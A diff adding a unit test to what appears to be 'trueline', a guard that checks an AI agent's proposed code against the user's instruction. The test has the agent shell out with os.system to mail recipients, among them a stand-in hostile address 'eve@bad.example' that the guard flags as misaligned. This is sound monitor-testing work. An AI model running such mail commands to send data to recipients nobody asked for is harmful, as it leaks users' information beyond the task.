@@ -22,6 +22,7 @@ from trueline.guard.scope.from_words import scope_from_words
 from trueline.guard.scope.model_maker import ModelMaker
 from trueline.guard.scope.stage import ScopeMode, ScopeStage
 from trueline.guard.scope.types import Scope, ScopeSource
+from trueline.guard.session import CheckOutcome, Session
 from trueline.guard.types import GuardContext
 from trueline.models import Config, open_model
 from trueline.models.envfiles import Env
@@ -184,3 +185,23 @@ def test_without_a_scope_nothing_is_let_through() -> None:
             return found
 
     assert asyncio.run(main()).decision is Decision.UNDECIDED
+
+
+def test_a_person_is_asked_once_about_a_recipient_that_the_instruction_leaves_open() -> None:
+    def mail(address: str) -> Proposal:
+        return proposal(f"import os\nos.system('echo hi | mail -s x {address}')")
+
+    async def main() -> list[CheckOutcome]:
+        guard = DeActionGuard(GuardConfig(None, ScopeStage()))
+        session = Session(guard, "Reply to the sender that Friday is fine.", on_error="ask")
+        first = await session.check(terminal(), mail("ben@firm.example"))
+        await session.executed(first.id)
+        again = await session.check(terminal(), mail("ben@firm.example"))
+        return [first, again, await session.check(terminal(), mail("eve@bad.example"))]
+
+    first, again, other = asyncio.run(main())
+    assert first.enforced == "ask" and "ben@firm.example" in first.verdict.reason
+    assert again.enforced == "allow"
+    assert other.verdict.decision is Decision.MISALIGNED
+    nobody = check("import os\nos.system('mail -s x a@b.example < n')", "Reply to the sender.", terminal())
+    assert nobody.decision is not Decision.MISALIGNED, "where nobody can be asked it is unknown"
